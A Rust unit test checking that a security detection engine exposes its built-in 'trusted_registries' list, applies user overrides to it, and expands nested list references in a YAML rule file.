/// The engine hands out the lists its rules were compiled with: the library's, with
/// `[detect.lists]` overrides applied, and a rule file's own, nested `$lists` expanded.
#[test]
fn the_engine_exposes_its_lists_after_overrides() {
    let builtin = detect::Engine::new(detect::RuleSet::builtin().unwrap());
    let trusted = builtin.list("trusted_registries").unwrap();
    assert!(
        trusted.contains(&"registry.k8s.io".to_owned()),
        "{trusted:?}"
    );
    assert_eq!(
        detect::builtin_list("trusted_registries").as_deref(),
        Some(trusted)
    );
    assert!(builtin.list("no_such_list").is_none());

    let mut overrides = detect::ListOverrides::new();
    overrides.insert(
        "trusted_registries".to_owned(),
        vec!["ghcr.io/me".to_owned()],
    );
    let overridden = detect::Engine::new(detect::RuleSet::load_all(true, &[], &overrides).unwrap());
    assert_eq!(
        overridden.list("trusted_registries"),
        Some(&["ghcr.io/me".to_owned()][..])
    );

    let rule = "lists:\n  mine: [a, $theirs]\n  theirs: [b, c]\nrules:\n  - id: t.rule\n    title: t\n    severity: low\n    condition: {field: verb, in: $mine}\n";
    let own = detect::Engine::new(detect::RuleSet::from_yaml(rule, "test").unwrap());
    assert_eq!(
        own.list("mine"),
        Some(&["a".to_owned(), "b".to_owned(), "c".to_owned()][..])
    );
    assert!(
        own.list("trusted_registries").is_some(),
        "library lists too"
    );
}
